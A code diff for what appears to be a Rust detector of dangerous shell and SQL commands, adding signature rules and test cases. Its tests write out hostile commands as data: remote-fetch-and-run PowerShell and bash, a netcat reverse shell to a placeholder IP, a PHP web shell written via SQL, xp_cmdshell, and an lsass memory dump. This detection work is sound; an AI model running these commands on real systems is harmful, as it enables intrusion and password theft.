@@ -41,6 +41,12 @@ const SIGNS: &[(&[&str], &str)] = &[
     (&["regsvr32", "/i:http"], RUNS_FROM_ELSEWHERE),
     (&["powershell", "hidden", " -enc"], HIDES_WHAT_RUNS),
     (&["powershell", "-nop", " -enc"], HIDES_WHAT_RUNS),
+    (&["powershell", "hidden", " -e "], HIDES_WHAT_RUNS),
+    (&["powershell", "hidden", " -ec "], HIDES_WHAT_RUNS),
+    (&["into outfile", "<?"], WRITES_A_PROGRAM),
+    (&["into dumpfile", "<?"], WRITES_A_PROGRAM),
+    (&["xp_cmdshell"], LEAVES_THE_DATABASE),
+    (&["copy ", " from program "], LEAVES_THE_DATABASE),
     (&["powershell", "hidden", "frombase64string"], HIDES_WHAT_RUNS),
     (&["comsvcs", "minidump"], TAKES_PASSWORDS),
     (&["procdump", "lsass"], TAKES_PASSWORDS),
@@ -68,6 +74,8 @@ const RUNS_FROM_ELSEWHERE: &str = "the command runs what it fetches from elsewhe
 const HIDES_WHAT_RUNS: &str = "the command hides what it runs";
 const TAKES_PASSWORDS: &str = "the command takes stored passwords";
 const REMOVES_WAYS_BACK: &str = "the command removes the ways back to saved data";
+const WRITES_A_PROGRAM: &str = "the query writes a program into a file";
+const LEAVES_THE_DATABASE: &str = "the query runs a program outside the database";
 const REMOVES_TRACES: &str = "the command removes traces or switches off a defence";
 
 /// Where Linux keeps passwords.
@@ -201,6 +209,11 @@ mod tests {
             "powershell -c iwr -useb http://198.51.100.7/a | IEX",
             "bash -c 'bash <(curl -s http://198.51.100.7/a)'",
             "sudo -u bob nc 198.51.100.7 9 -e /bin/sh",
+            "powershell.exe -w hidden -e SQBFAFgA",
+            "exec_create: sh -c echo aWQ= | base64 -d | sh",
+            "select '<?php system($_GET[1]);' into outfile '/var/www/x.php'",
+            "EXEC master..xp_cmdshell 'whoami'",
+            "COPY t FROM PROGRAM 'id'",
             "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 l.dmp full",
         ] {
             let (behaviour, reason) = told(&sudo(command));
